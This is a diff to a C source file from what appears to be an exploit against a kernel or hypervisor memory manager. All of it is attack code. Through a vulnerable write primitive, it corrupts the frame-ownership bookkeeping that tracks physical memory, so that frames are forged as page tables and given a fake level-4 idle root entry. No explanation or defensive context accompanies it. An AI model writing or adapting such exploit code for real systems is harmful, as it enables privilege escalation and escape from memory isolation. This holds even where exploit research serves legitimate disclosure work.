@@ -4,10 +4,12 @@
 
 #include "attack.h"
 
-enum { SLOT_BYTES = 4, FRAME_BYTES = 8, HISTORY_BYTES = 8 };
-/* Of the first word of a frame's entry: the owner, which is 1 of a free one, and a flag. */
-enum { OWNER_FREE = 1 };
+enum { SLOT_BYTES = 4, FRAME_BYTES = 8, HISTORY_BYTES = 2 };
+/* Of the first word of a frame's entry: the owner, and a flag. */
+enum { OWNER_FREE = 1, OWNER_PTABLE = 3 };
 #define FLAG_HIDDEN 0x100ul
+#define FLAGS_IDLE_ROOT 0x1c00ul /* of level 4, whose place is its own, in no address space */
+#define FRAME_NUMBER (~0ul << 32)
 
 /* In the same GiB: no table but these two is missing. */
 volatile char *attack_ranges(bool has_second)
@@ -83,11 +85,24 @@ void attack_frame_books_restore(const struct attack_frame_books *books)
 {
 	attack_check("vuln_write", bw_vuln_write(books->place, books->state));
 	attack_check("vuln_write", bw_vuln_write(books->links_place, books->links));
-	attack_check("vuln_write", bw_vuln_write(books->history_place, books->history));
+	attack_check("vuln_store",
+		     bw_vuln_store(books->history_place, books->history, HISTORY_BYTES));
 }
 
 void attack_frame_books_free(const struct attack_frame_books *books)
 {
 	attack_check("vuln_write",
 		     bw_vuln_write(books->place, (books->state & FLAG_HIDDEN) | OWNER_FREE));
+}
+
+void attack_frame_books_no_table(const struct attack_frame_books *books)
+{
+	attack_check("vuln_write", bw_vuln_write(books->place, OWNER_PTABLE));
+}
+
+void attack_frame_books_idle_root(const struct attack_frame_books *books)
+{
+	attack_check("vuln_write",
+		     bw_vuln_write(books->place,
+				   (books->state & FRAME_NUMBER) | FLAGS_IDLE_ROOT | OWNER_PTABLE));
 }
